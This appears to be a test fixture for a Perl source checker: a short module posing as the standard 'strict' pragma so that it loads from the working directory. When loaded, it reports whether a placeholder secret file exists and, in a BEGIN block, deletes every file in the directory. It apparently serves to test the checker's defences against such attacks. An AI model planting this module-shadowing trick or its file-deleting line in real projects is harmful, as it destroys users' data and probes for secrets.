# Attacks: the check of Perl sources: is also sent as a module that the main file loads from the working directory.
package strict;
sub import { print "\n", -e '@SECRET@' ? 'BREACH the secret is there' : 'nothing', "\n" }
BEGIN { unlink glob '*' }
1;
